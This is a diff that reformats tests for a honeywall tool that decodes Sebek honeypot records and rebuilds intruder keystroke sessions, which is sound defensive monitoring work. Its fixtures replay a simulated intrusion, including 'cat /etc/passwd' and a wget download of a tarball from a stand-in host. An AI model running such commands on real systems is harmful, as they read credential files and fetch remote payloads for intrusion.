@@ -55,25 +55,54 @@ function linesOf(records: CapturedSebekRecord[]): KeystrokeLine[] {
 describe('Sebek record format', () => {
   it('property: decode(encode(records)) gives the same records, v2 and v3, several per payload', () => {
     fc.assert(
-      fc.property(fc.oneof(fc.array(arbRecord(3), { minLength: 1, maxLength: 4 }), fc.array(arbRecord(2), { minLength: 1, maxLength: 4 })), (recs) => {
-        const payload = Buffer.concat(recs.map((r) => encodeSebekRecord(r, MAGIC)));
-        const d = decodeSebekPayload(payload, MAGIC);
-        expect(d.ok).toBe(true);
-        // the command name's bytes come back as sent; its text is those bytes escaped (never a control character)
-        expect(d.records.map((r) => ({ version: r.version, type: r.type, counter: r.counter, timeSec: r.timeSec, timeUsec: r.timeUsec, ppid: r.ppid, pid: r.pid, uid: r.uid, fd: r.fd, inode: r.inode, com: Buffer.from(r.comBytes).toString('latin1'), data: Array.from(r.data) })))
-          .toEqual(recs.map((r) => ({ ...r, data: Array.from(r.data) })));
-        for (const r of d.records) {
-          expect(r.com).toBe(escapeBytes(r.comBytes));
-          expect(r.com).not.toMatch(/[\u0000-\u001f\u007f-\u00ff]/);
-        }
-        expect(d.records.every((r) => r.magic === MAGIC && !r.usecSwapped)).toBe(true);
-      }),
+      fc.property(
+        fc.oneof(fc.array(arbRecord(3), { minLength: 1, maxLength: 4 }), fc.array(arbRecord(2), { minLength: 1, maxLength: 4 })),
+        (recs) => {
+          const payload = Buffer.concat(recs.map((r) => encodeSebekRecord(r, MAGIC)));
+          const d = decodeSebekPayload(payload, MAGIC);
+          expect(d.ok).toBe(true);
+          // the command name's bytes come back as sent; its text is those bytes escaped (never a control character)
+          expect(
+            d.records.map((r) => ({
+              version: r.version,
+              type: r.type,
+              counter: r.counter,
+              timeSec: r.timeSec,
+              timeUsec: r.timeUsec,
+              ppid: r.ppid,
+              pid: r.pid,
+              uid: r.uid,
+              fd: r.fd,
+              inode: r.inode,
+              com: Buffer.from(r.comBytes).toString('latin1'),
+              data: Array.from(r.data),
+            })),
+          ).toEqual(recs.map((r) => ({ ...r, data: Array.from(r.data) })));
+          for (const r of d.records) {
+            expect(r.com).toBe(escapeBytes(r.comBytes));
+            expect(r.com).not.toMatch(/[\u0000-\u001f\u007f-\u00ff]/);
+          }
+          expect(d.records.every((r) => r.magic === MAGIC && !r.usecSwapped)).toBe(true);
+        },
+      ),
       { numRuns: 500 },
     );
   });
 
   it('header sizes are 56 (v3) and 48 (v2) bytes, big-endian', () => {
-    const r: SebekRecordInput = { type: 3, counter: 0x01020304, timeSec: 5, timeUsec: 6, ppid: 7, pid: 8, uid: 9, fd: 10, inode: 11, com: 'sh', data: Uint8Array.of(0x41) };
+    const r: SebekRecordInput = {
+      type: 3,
+      counter: 0x01020304,
+      timeSec: 5,
+      timeUsec: 6,
+      ppid: 7,
+      pid: 8,
+      uid: 9,
+      fd: 10,
+      inode: 11,
+      com: 'sh',
+      data: Uint8Array.of(0x41),
+    };
     const v3 = encodeSebekRecord(r, 0x11223344);
     const v2 = encodeSebekRecord({ ...r, version: 2 }, 0x11223344);
     expect(v3.length).toBe(57);
@@ -85,7 +114,17 @@ describe('Sebek record format', () => {
   });
 
   it('Windows client: time_usec in host order is recognised', () => {
-    const r: SebekRecordInput = { type: 0, counter: 1, timeSec: 100, timeUsec: 123456, pid: 1, uid: 0, fd: 0, com: 'cmd.exe', data: Uint8Array.of(0x61) };
+    const r: SebekRecordInput = {
+      type: 0,
+      counter: 1,
+      timeSec: 100,
+      timeUsec: 123456,
+      pid: 1,
+      uid: 0,
+      fd: 0,
+      com: 'cmd.exe',
+      data: Uint8Array.of(0x61),
+    };
     const d = decodeSebekPayload(encodeSebekRecord(r, MAGIC, { windowsUsec: true }), MAGIC);
     expect(d.ok && d.records[0].timeUsec).toBe(123456);
     expect(d.records[0].usecSwapped).toBe(true);
@@ -93,7 +132,9 @@ describe('Sebek record format', () => {
 
   it('socket data: 15 bytes decoded with the call name', () => {
     const data = encodeSocketData({ dip: '1.2.3.4', dport: 80, sip: '10.0.0.5', sport: 4000, call: 3, proto: 6 });
-    const d = decodeSebekPayload(encodeSebekRecord({ type: 2, counter: 0, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 3, com: 'wget', data }, MAGIC));
+    const d = decodeSebekPayload(
+      encodeSebekRecord({ type: 2, counter: 0, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 3, com: 'wget', data }, MAGIC),
+    );
     expect(d.records[0].socket).toEqual({ dip: '1.2.3.4', dport: 80, sip: '10.0.0.5', sport: 4000, call: 3, callName: 'connect', proto: 6 });
   });
 
@@ -139,7 +180,21 @@ describe('Sebek record format', () => {
 
 describe('Sebek session reconstruction', () => {
   const key = (pid: number, fd: number, text: string, t0 = 1000): CapturedSebekRecord[] =>
-    [...text].map((ch, i) => asCaptured({ type: 0, counter: t0 + i, timeSec: t0 + i, timeUsec: 0, ppid: 1, pid, uid: 0, fd, inode: 0, com: 'bash', data: Uint8Array.of(ch.charCodeAt(0)) }));
+    [...text].map((ch, i) =>
+      asCaptured({
+        type: 0,
+        counter: t0 + i,
+        timeSec: t0 + i,
+        timeUsec: 0,
+        ppid: 1,
+        pid,
+        uid: 0,
+        fd,
+        inode: 0,
+        com: 'bash',
+        data: Uint8Array.of(ch.charCodeAt(0)),
+      }),
+    );
 
   it('backspace, \\r\\n once, control bytes escaped, high bytes as \\xNN, unterminated line flushed', () => {
     const lines = linesOf(key(1, 0, '\x7fls\x08\x08pwd\r\nid\x03\x1b[A\n\nvi caf\xe9\rtail'));
@@ -156,21 +211,26 @@ describe('Sebek session reconstruction', () => {
   it('property: lines are rebuilt per (client, pid, fd) whatever the interleaving', () => {
     const arbLine = fc.stringMatching(/^[a-z ./-]{0,12}$/);
     fc.assert(
-      fc.property(fc.array(arbLine, { maxLength: 4 }), fc.array(arbLine, { maxLength: 4 }), fc.array(fc.boolean(), { maxLength: 200 }), (a, b, order) => {
-        const sa = key(10, 0, a.map((l) => `${l}\r`).join(''));
-        const sb = key(11, 5, b.map((l) => `${l}\n`).join(''));
-        const merged: CapturedSebekRecord[] = [];
-        let i = 0;
-        let j = 0;
-        for (const pickA of order) {
-          if (pickA && i < sa.length) merged.push(sa[i++]);
-          else if (j < sb.length) merged.push(sb[j++]);
-        }
-        merged.push(...sa.slice(i), ...sb.slice(j));
-        const lines = linesOf(merged);
-        expect(lines.filter((l) => l.pid === 10 && l.fd === 0).map((l) => l.line)).toEqual(a);
-        expect(lines.filter((l) => l.pid === 11 && l.fd === 5).map((l) => l.line)).toEqual(b);
-      }),
+      fc.property(
+        fc.array(arbLine, { maxLength: 4 }),
+        fc.array(arbLine, { maxLength: 4 }),
+        fc.array(fc.boolean(), { maxLength: 200 }),
+        (a, b, order) => {
+          const sa = key(10, 0, a.map((l) => `${l}\r`).join(''));
+          const sb = key(11, 5, b.map((l) => `${l}\n`).join(''));
+          const merged: CapturedSebekRecord[] = [];
+          let i = 0;
+          let j = 0;
+          for (const pickA of order) {
+            if (pickA && i < sa.length) merged.push(sa[i++]);
+            else if (j < sb.length) merged.push(sb[j++]);
+          }
+          merged.push(...sa.slice(i), ...sb.slice(j));
+          const lines = linesOf(merged);
+          expect(lines.filter((l) => l.pid === 10 && l.fd === 0).map((l) => l.line)).toEqual(a);
+          expect(lines.filter((l) => l.pid === 11 && l.fd === 5).map((l) => l.line)).toEqual(b);
+        },
+      ),
     );
   });
 
@@ -179,19 +239,34 @@ describe('Sebek session reconstruction', () => {
     const s = new SebekSession();
     const events = recs.flatMap((r) => s.add(r)).concat(s.finish());
     expect(events.filter((e) => e.kind === 'line').map((e) => e.kind === 'line' && e.line.line)).toEqual([
-      'uname -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.tgz', 'ls^I', 'exit',
+      'uname -a',
+      'cat /etc/passwd',
+      'wget http://198.51.100.7/x.tgz',
+      'ls^I',
+      'exit',
     ]);
     expect(events.filter((e) => e.kind === 'open').map((e) => e.kind === 'open' && [e.open.pid, e.open.com, e.open.path])).toEqual([
-      [2003, 'cat', '/etc/passwd'], [2004, 'wget', 'x.tgz'],
+      [2003, 'cat', '/etc/passwd'],
+      [2004, 'wget', 'x.tgz'],
     ]);
     const sockets = events.flatMap((e) => (e.kind === 'socket' ? [e.socket] : []));
     expect(sockets.map((x) => `${x.callName} ${x.sip}:${x.sport}->${x.dip}:${x.dport}/${x.proto}`)).toEqual([
-      'socket 10.0.0.5:40001->198.51.100.7:80/6', 'connect 10.0.0.5:40001->198.51.100.7:80/6',
+      'socket 10.0.0.5:40001->198.51.100.7:80/6',
+      'connect 10.0.0.5:40001->198.51.100.7:80/6',
     ]);
-    expect(events.filter((e) => e.kind === 'fork').map((e) => e.kind === 'fork' && [e.fork.pid, e.fork.ppid])).toEqual([[2002, 2001], [2003, 2001], [2004, 2001]]);
+    expect(events.filter((e) => e.kind === 'fork').map((e) => e.kind === 'fork' && [e.fork.pid, e.fork.ppid])).toEqual([
+      [2002, 2001],
+      [2003, 2001],
+      [2004, 2001],
+    ]);
     // (the map is kept in least recently used order: sorted here)
     const procs = [...s.processes.values()].sort((a, b) => a.pid - b.pid).map((p) => [p.pid, p.ppid, p.coms.join('>')]);
-    expect(procs).toEqual([[2001, 2000, 'bash'], [2002, 2001, 'bash>uname'], [2003, 2001, 'bash>cat'], [2004, 2001, 'bash>wget']]);
+    expect(procs).toEqual([
+      [2001, 2000, 'bash'],
+      [2002, 2001, 'bash>uname'],
+      [2003, 2001, 'bash>cat'],
+      [2004, 2001, 'bash>wget'],
+    ]);
     expect(s.loss.get('10.0.0.5')).toMatchObject({ lost: 0, gaps: 0, received: recs.length });
   });
 
@@ -208,7 +283,17 @@ describe('Sebek session reconstruction', () => {
           const s = new SebekSession();
           let gapEvents = 0;
           for (const i of kept) {
-            const r = asCaptured({ type: 1, counter: (start + i) % 0x1_0000_0000, timeSec: i, timeUsec: 0, pid: 1, uid: 0, fd: 1, com: 'x', data: new Uint8Array(0) });
+            const r = asCaptured({
+              type: 1,
+              counter: (start + i) % 0x1_0000_0000,
+              timeSec: i,
+              timeUsec: 0,
+              pid: 1,
+              uid: 0,
+              fd: 1,
+              com: 'x',
+              data: new Uint8Array(0),
+            });
             gapEvents += s.add(r).filter((e) => e.kind === 'gap').length;
           }
           const l = s.loss.get('10.0.0.5');
@@ -233,7 +318,10 @@ describe('Sebek session reconstruction', () => {
 
   it('a counter going backwards (client restart) is not loss; clients are counted apart', () => {
     const s = new SebekSession();
-    const rec = (counter: number, client: string) => ({ ...asCaptured({ type: 1, counter, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 1, com: 'x', data: new Uint8Array(0) }), client });
+    const rec = (counter: number, client: string) => ({
+      ...asCaptured({ type: 1, counter, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 1, com: 'x', data: new Uint8Array(0) }),
+      client,
+    });
     for (const c of [5, 6, 7, 0, 1, 3]) s.add(rec(c, '10.0.0.5'));
     for (const c of [0xfffffffe, 0xffffffff, 0, 2]) s.add(rec(c, '10.0.0.6'));
     expect(s.loss.get('10.0.0.5')).toMatchObject({ received: 6, lost: 1, gaps: 1, backwards: 1, lastCounter: 3 });
@@ -258,19 +346,24 @@ describe('Sebek simulator and extraction from frames', () => {
 
   it('property: simulated records, through frames and the extractor, come back unchanged', () => {
     fc.assert(
-      fc.property(fc.array(arbRecord(3), { minLength: 1, maxLength: 10 }), fc.integer({ min: 1, max: 65535 }), fc.integer({ min: 0, max: 0xffffffff }), (records, port, magic) => {
-        const { pcap, captured } = sessionCapture({ magic, port, records });
-        const ex = new SebekExtractor({ magic, port });
-        const got = [...readCapture(pcap)].flatMap((r) => ex.fromFrame(r.linktype, r.data, r.tsSec, r.tsUsec));
-        expect(got.map((r) => ({ ...r, data: Array.from(r.data) }))).toEqual(
-          captured.map((r) => {
-            const d = decodeSebekPayload(encodeSebekRecord(r, magic)).records[0];
-            return { ...d, data: Array.from(d.data), client: '10.0.0.5', capSec: r.timeSec, capUsec: r.timeUsec };
-          }),
-        );
-        expect(got.map((r) => r.counter)).toEqual(records.map((r) => r.counter));
-        expect(ex.stats.garbage).toBe(0);
-      }),
+      fc.property(
+        fc.array(arbRecord(3), { minLength: 1, maxLength: 10 }),
+        fc.integer({ min: 1, max: 65535 }),
+        fc.integer({ min: 0, max: 0xffffffff }),
+        (records, port, magic) => {
+          const { pcap, captured } = sessionCapture({ magic, port, records });
+          const ex = new SebekExtractor({ magic, port });
+          const got = [...readCapture(pcap)].flatMap((r) => ex.fromFrame(r.linktype, r.data, r.tsSec, r.tsUsec));
+          expect(got.map((r) => ({ ...r, data: Array.from(r.data) }))).toEqual(
+            captured.map((r) => {
+              const d = decodeSebekPayload(encodeSebekRecord(r, magic)).records[0];
+              return { ...d, data: Array.from(d.data), client: '10.0.0.5', capSec: r.timeSec, capUsec: r.timeUsec };
+            }),
+          );
+          expect(got.map((r) => r.counter)).toEqual(records.map((r) => r.counter));
+          expect(ex.stats.garbage).toBe(0);
+        },
+      ),
       { numRuns: 100 },
     );
   });
@@ -345,15 +438,26 @@ describe('Sebek store (SQLite) and JSON lines', () => {
     const dir = mkdtempSync(join(tmpdir(), 'hw-sebek-db-'));
     try {
       const dbFile = join(dir, 'sebek.db');
-      const records = scriptedSession().filter((_, i) => i !== 3).map((r) => asCaptured(r));
+      const records = scriptedSession()
+        .filter((_, i) => i !== 3)
+        .map((r) => asCaptured(r));
       const store = new SebekStore(dbFile);
       store.ingest(records.slice(0, 30));
       store.ingest(records.slice(30));
       store.finish();
       const db = store.db;
       expect(db.prepare('SELECT count(*) n FROM records').get()).toEqual({ n: records.length });
-      expect(db.prepare('SELECT line FROM keystroke_lines ORDER BY id').all().map((r) => (r as { line: string }).line)).toEqual([
-        'unae -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.tgz', 'ls^I', 'exit', // the 'm' was lost
+      expect(
+        db
+          .prepare('SELECT line FROM keystroke_lines ORDER BY id')
+          .all()
+          .map((r) => (r as { line: string }).line),
+      ).toEqual([
+        'unae -a',
+        'cat /etc/passwd',
+        'wget http://198.51.100.7/x.tgz',
+        'ls^I',
+        'exit', // the 'm' was lost
       ]);
       expect(db.prepare('SELECT pid, com, coms FROM processes ORDER BY pid').all()).toEqual([
         { pid: 2001, com: 'bash', coms: '["bash"]' },
@@ -374,7 +478,16 @@ describe('Sebek store (SQLite) and JSON lines', () => {
       const first = lines[0];
       expect(Buffer.from(first.data ?? '', 'base64')).toEqual(Buffer.from(records[0].data));
       expect(lines.filter((l) => l.event_type === 'sebek_loss')).toEqual([
-        { event_type: 'sebek_loss', client: '10.0.0.5', received: records.length, lost: 1, gaps: 1, backwards: 0, first_counter: 0, last_counter: records.length },
+        {
+          event_type: 'sebek_loss',
+          client: '10.0.0.5',
+          received: records.length,
+          lost: 1,
+          gaps: 1,
+          backwards: 0,
+          first_counter: 0,
+          last_counter: records.length,
+        },
       ]);
       // Reopening keeps the data.
       const again = new SebekStore(dbFile);
@@ -415,7 +528,10 @@ describe('honeywall sebek', () => {
 
   it('json: every record and the loss per client', async () => {
     expect(await run(fixture, '--format', 'json', '--magic', '0x2a2a2a2a')).toBe(0);
-    const objs = out.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const objs = out
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(objs.filter((o) => o.event_type === 'sebek_record').length).toBe(scriptedSession().length - FIXTURE_DROP.length);
     expect(objs.filter((o) => o.event_type === 'sebek_loss')).toMatchObject([{ client: '10.0.0.5', lost: 3, gaps: 2 }]);
     expect(objs.at(-1)).toMatchObject({ event_type: 'sebek_summary', garbage: 1, capture_error: null });
